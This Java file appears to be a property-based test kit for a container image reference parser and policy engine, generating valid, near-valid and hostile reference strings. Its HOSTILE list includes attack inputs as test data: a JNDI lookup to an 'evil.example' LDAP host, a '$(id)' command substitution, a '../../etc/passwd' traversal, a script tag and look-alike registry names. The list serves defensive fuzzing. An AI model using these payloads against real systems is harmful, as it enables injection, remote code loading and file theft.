package io.imagegate.testkit;

import io.imagegate.policy.Policy;
import io.imagegate.policy.PolicySet;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

/**
 * Arbitraries of image references, valid and invalid. None has a lone surrogate, which UTF-8 cannot encode.
 *
 * @since 0.1
 */
public final class References {

    static final String[] REGISTRIES = {
        "",
        "docker.io/",
        "index.docker.io/",
        "registry-1.docker.io:443/",
        "localhost/",
        "localhost:5000/",
        "ghcr.io/",
        "registry.example:5000/",
        "GHCR.io:443/",
        "10.0.0.1:5000/",
        "[2001:db8::1]:5000/",
        "xn--bcher-kva.example/"
    };

    private static final String[] SEGMENTS = {"library", "nginx", "acme", "a.b", "a__b", "x--y", "team", "team-evil"};

    static final String[] TAGS = {
        "", "", ":latest", ":1", ":1.17.1", ":v2.0.0-rc.1", ":latest-alpine", ":Latest", ":1-SNAPSHOT", ":_"
    };

    static final String[] DIGESTS = {
        "", "", "", "@sha256:" + "0".repeat(64), "@sha256:" + "a1".repeat(32), "@sha512:" + "f".repeat(128)
    };

    /** Where an edit hurts: separators, capitals, look-alikes of Latin letters, blanks, what ends a line or a text. */
    private static final String[] EDITS = {
        "/", ":", "@", "-", ".", "_", "..", "__", "A", "\u0430", "\u212a", " ", "\n", "\u0000", "\u200b", "\u202e",
        "%2f"
    };

    private static final String[] HOSTILE = {
        "",
        " ",
        "latest",
        ":latest",
        "@sha256:" + "0".repeat(64),
        "0".repeat(64),
        "nginx:",
        "nginx@",
        "nginx:latest ",
        "nginx:\u200blatest",
        "nginx:1.17.1\nnginx:latest",
        "nginx@sha256:" + "0".repeat(63),
        "nginx@sha256:" + "A".repeat(64),
        "https://docker.io/library/nginx:1",
        "docker.io@evil.example/nginx:1",
        "docker.io:443@evil.example/nginx:1",
        "docker.io.evil.example/library/nginx:1",
        "evildocker.io/library/nginx:1",
        "docker.io%2flibrary/nginx:1",
        "docker.io/../evil/nginx:1",
        "docker.io//nginx:1",
        "d\u043ecker.io/library/nginx:1",
        "docker.io\u3002evil.example/nginx:1",
        "foo_bar.example/nginx:1",
        "\u202e1:xnign/oi.rekcod",
        "../../etc/passwd",
        "$(id)",
        "${jndi:ldap://evil.example/x}",
        "<script>alert(1)</script>",
        "\u001b[2Knginx:1",
        "\ud83d\udc33:1",
        "nginx:" + "1".repeat(129),
        "a/".repeat(127) + "b:1",
        "x".repeat(256),
        "a".repeat(5_000)
    };

    private References() {}

    /** {@return references that the grammar accepts and that name a registry: any registry, path, tag and digest} */
    public static Arbitrary<String> valid() {
        return Combinators.combine(Arbitraries.of(REGISTRIES), paths(), Arbitraries.of(TAGS), Arbitraries.of(DIGESTS))
                .as((registry, path, tag, digest) -> registry + path + tag + digest);
    }

    /**
     * {@return texts one edit away from a valid reference: a piece put in, also over what stood there; most are refused,
     * some are references still, but of another image}
     */
    public static Arbitrary<String> nearValid() {
        Arbitrary<Integer> positions = Arbitraries.integers().between(0, 60);
        Arbitrary<Integer> lengths = Arbitraries.integers().between(0, 2);
        return Combinators.combine(valid(), positions, lengths, Arbitraries.of(EDITS))
                .as(References::edit);
    }

    /**
     * {@return texts as an attacker would send them: look-alikes of registries and of {@code latest}, line breaks and other
     * control characters, too long, of another syntax altogether}
     */
    public static Arbitrary<String> hostile() {
        Arbitrary<String> noise = Arbitraries.strings()
                .withCharRange('\0', '\ud7ff')
                .withCharRange('\ue000', '\uffff')
                .ofMaxLength(40);
        Arbitrary<String> known = Arbitraries.of(HOSTILE);
        return Arbitraries.oneOf(known, known, known, noise);
    }

    /** {@return valid ones, near ones and hostile ones, as many of each} */
    public static Arbitrary<String> any() {
        return Arbitraries.oneOf(valid(), nearValid(), hostile());
    }

    /**
     * {@return references that a policy allows in the namespace {@code default}, near what its rules name: each draw is allowed}
     *
     * @param policy the policy; one with rules on content allows nothing without facts
     * @throws IllegalArgumentException if none is found; the message says why the nearest is denied
     */
    public static Arbitrary<String> allowedBy(Policy policy) {
        return allowedBy(PolicySet.of(policy));
    }

    /**
     * {@return references that policies allow in the namespace {@code default}, near what their rules name: each draw is allowed}
     *
     * @param policies policies that hold together; with rules on content they allow nothing without facts
     * @throws IllegalArgumentException if none is found; the message says why the nearest is denied
     */
    public static Arbitrary<String> allowedBy(PolicySet policies) {
        return NearPolicy.of(policies).draw(true);
    }

    /**
     * {@return references that a policy denies in the namespace {@code default}, near what its rules name: each draw is denied}
     * They are valid names of images, which differ little from those that it allows.
     *
     * @param policy the policy
     * @throws IllegalArgumentException if none is found
     */
    public static Arbitrary<String> deniedBy(Policy policy) {
        return deniedBy(PolicySet.of(policy));
    }

    /**
     * {@return references that policies deny in the namespace {@code default}, near what their rules name: each draw is denied}
     * They are valid names of images, which differ little from those that the policies allow.
     *
     * @param policies policies that hold together
     * @throws IllegalArgumentException if none is found
     */
    public static Arbitrary<String> deniedBy(PolicySet policies) {
        return NearPolicy.of(policies).draw(false);
    }

    /** {@return paths within a registry that the grammar accepts, of one to four parts} */
    public static Arbitrary<String> paths() {
        Arbitrary<String> made = Arbitraries.strings()
                .withCharRange('a', 'z')
                .numeric()
                .ofMinLength(1)
                .ofMaxLength(8);
        return Arbitraries.oneOf(Arbitraries.of(SEGMENTS), made)
                .list()
                .ofMinSize(1)
                .ofMaxSize(4)
                .map(segments -> String.join("/", segments));
    }

    private static String edit(String text, int position, int removed, String inserted) {
        int from = Math.min(position, text.length());
        int to = Math.min(from + removed, text.length());
        return text.substring(0, from) + inserted + text.substring(to);
    }
}
